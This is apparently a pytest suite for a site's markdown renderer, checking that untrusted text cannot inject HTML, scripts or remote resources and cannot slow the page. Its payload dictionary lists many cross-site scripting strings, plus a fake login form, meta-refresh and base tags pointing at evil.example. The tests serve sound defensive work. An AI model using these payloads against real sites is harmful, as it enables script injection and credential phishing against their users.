"""Outputs come from strangers: whatever is in them, a page shows it and runs none of it."""

import time
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import given, settings
from hypothesis import strategies as st

from arena import markdown

# What nh3 may let through: an attribute or a tag beyond these would be a way in.
TAGS = {
    *("a", "blockquote", "br", "code", "div", "em", "hr", "li", "ol", "p", "pre", "s", "strong"),
    *("table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {"class", "href", "rel", "start", "style", "tabindex", "title"}

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script with a space in its end tag": "<script>alert(1)</script >",
    "script in a list": "- <script>alert(1)</script>",
    "upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "onerror": "<img src=x onerror=alert(1)>",
    "handler on any tag": '<b onmouseover="alert(1)">bold</b>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "style": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0">over everything</p>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel=stylesheet href="//evil.example/x.css">',
    "unclosed tag": "<img src=x onerror=alert(1) ",
    "unclosed attribute": '<a href="x" title="',
    "end tags of the page": "</div></main></body></html>",
    "comment": "<!-- --><script>alert(1)</script><!-- -->",
    "unclosed comment": "<!-- everything after this is gone",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "template of Django": "{% load static %}{{ request }}",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea></textarea><script>alert(1)</script>",
    "javascript link": "[click](javascript:alert(1))",
    "javascript link with a tab": "[click](java\tscript:alert(1))",
    "javascript link with entities": "[click](&#106;avascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript by reference": "[click][1]\n\n[1]: javascript:alert(1)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "remote image": "![x](https://evil.example/pixel.png)",
    "quotes in a link title": "[a](https://a.example '\" onmouseover=\"alert(1)')",
    "quotes in an image": '![" onerror="alert(1)](https://a.example/x.png)',
    "quotes in a code language": '```" onmouseover="alert(1)\ncode\n```',
    "protocol-relative link": "[a](//evil.example/x)",
    "relative link": "[a](/admin/logout/)",
    "html in a heading": "# <img src=x onerror=alert(1)>",
    "html in a table": "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "alignment of a table": "| a |\n|:-:|\n| b |",
    "null character": "<scr\x00ipt>alert(1)</script>",
}


class Reader(HTMLParser):
    """Collects the tags and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.depth = 0
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))
        self.depth += tag not in ("br", "hr", "img")

    def handle_endtag(self, tag):
        self.depth -= tag not in ("br", "hr")

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(f"A comment got through: {data!r}")


def assert_harmless(html: str) -> Reader:
    page = Reader(html)
    for tag, attributes in page.found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        address = attributes.get("href")
        assert address is None or address.startswith(("http://", "https://", "mailto:"))
        style = attributes.get("style")
        assert style is None or style.startswith("text-align:")
    assert page.depth == 0
    return page


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_does_nothing(payload):
    assert_harmless(markdown.render(payload))
    assert_harmless(markdown.render(f"before\n\n{payload}\n\nafter"))


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_does_not_swallow_what_follows(payload):
    assert "after" in Reader(markdown.render(f"{payload}\n\nafter")).text


@given(
    st.text(alphabet=st.sampled_from("<>\"'`*_[]()!#|-~&;:/\\ \n\tahrefonscript="), max_size=300)
)
@settings(max_examples=200, deadline=None)
def test_whatever_is_written_is_harmless(text):
    assert_harmless(markdown.render(text))


@given(
    st.text(alphabet=st.sampled_from("<>\"'`[]()!.%/\\ \nonepgsrcat=#&;:"), max_size=200),
    st.sampled_from(
        ["![{}](one.png)", "![a](one.png{})", '![a](one.png "{}")', "{}![a](one.png){}"]
    ),
)
@settings(max_examples=200, deadline=None)
def test_of_all_images_only_those_of_the_arena_are_loaded(text, shape):
    own = f"/a/poems/images/{'0' * 64}.webp"
    page = Reader(
        markdown.render(shape.replace("{}", text), {"one.png": markdown.Picture(own, 4, 3)})
    )
    for tag, attributes in page.found:
        assert tag in TAGS | {"img", "span"}
        assert set(attributes) <= ATTRIBUTES | {"src", "alt", "width", "height", "loading"}
        assert attributes.get("src") in (None, own)
        address = attributes.get("href")
        assert address is None or address.startswith(("http://", "https://", "mailto:"))


def test_the_sanitiser_takes_no_other_address_for_an_image():
    pictures = {"a.png": markdown.Picture("https://evil.example/a.webp", 1, 1)}
    assert "evil" not in markdown.render("![a](a.png)", pictures)


def test_html_is_shown_as_it_was_written():
    html = markdown.render("Use <b>bold</b> and <script>x</script>.")
    assert "&lt;b&gt;bold&lt;/b&gt; and &lt;script&gt;" in html


def test_markdown_is_rendered():
    html = markdown.render(
        "**bold** ~~gone~~\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. three\n\n`<x>`"
    )
    for part in ("<strong>bold</strong>", "<s>gone</s>", '<td style="text-align:right">2</td>'):
        assert part in html
    assert '<ol start="3">' in html
    assert "<code>&lt;x&gt;</code>" in html


def test_a_link_says_that_we_do_not_vouch_for_it():
    (link,) = (
        a for tag, a in Reader(markdown.render("[a](https://a.example)")).found if tag == "a"
    )
    assert link["href"] == "https://a.example"
    assert set(link["rel"].split()) >= {"nofollow", "ugc", "noopener"}


def test_an_image_is_a_link_and_loads_nothing():
    html = markdown.render("![a cat](https://a.example/cat.png)")
    assert "<img" not in html
    assert '<a href="https://a.example/cat.png"' in html
    assert "image: a cat" in html


def test_a_heading_of_a_text_is_not_a_heading_of_the_page():
    html = markdown.render("# One\n\nTwo\n===\n\n###### Six")
    assert not {"h1", "h2", "h6"} & {tag for tag, _ in Reader(html).found}
    assert 'class="heading heading-6"' in html


@pytest.mark.parametrize("control", "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
def test_a_character_that_reorders_what_follows_is_named_instead(control):
    html = markdown.render(f"if admin{control}: return")
    assert control not in html
    assert f"U+{ord(control):04X}" in html


def test_marks_of_direction_stay():
    assert "\u200f" in markdown.render("שלום\u200f!")


def test_a_lone_surrogate_can_be_sent():
    markdown.render("a\ud800b").encode()
    markdown.printable("\udfff").encode()


def test_the_text_is_isolated_from_the_direction_of_the_page():
    html = Template("{% load markdown %}{{ text|markdown }}").render(Context({"text": "שלום"}))
    assert html.startswith('<div class="md" dir="auto">')


def test_one_line_of_a_million_characters_is_shown_in_part_and_soon():
    started = time.perf_counter()
    html = Template("{% load markdown %}{{ text|markdown:url }}").render(
        Context({"text": "x" * 1_000_000, "url": "/whole.txt?a=1&b=2"})
    )
    assert time.perf_counter() - started < 1
    assert len(html) < 2 * markdown.SHOWN_CHARACTERS
    assert "the first 24,000 of 1,000,000 characters" in html
    assert 'href="/whole.txt?a=1&amp;b=2"' in html


def test_a_text_that_is_shown_whole_has_no_such_note():
    html = Template("{% load markdown %}{{ text|markdown }}").render(
        Context({"text": "word " * (markdown.SHOWN_CHARACTERS // 5)})
    )
    assert "Shown in part" not in html


@pytest.mark.parametrize(
    "unit",
    ["[", "![[", "*a**", "`a``b```", "<", ">", "_a__b", "[a](", "&", "<a@", "~~a~", "|a", "- "],
)
@pytest.mark.parametrize("length", [markdown.LONGEST_PARAGRAPH - 1, 1_000_000])
def test_no_text_takes_seconds(unit, length):
    paragraph = (unit * length)[:length]
    text = "\n\n".join([paragraph] * (markdown.SHOWN_CHARACTERS // length + 1))
    started = time.process_time()
    assert_harmless(markdown.render(text))
    # Measured: 0.4 s for the slowest. The margin is for slow machines.
    assert time.process_time() - started < 3


def test_raw_text_is_escaped_and_complete():
    html = Template("{% load markdown %}{{ text|rawtext }}").render(
        Context({"text": "<b>\n  *kept*\n</b>"})
    )
    assert "&lt;b&gt;\n  *kept*\n&lt;/b&gt;</pre>" in html
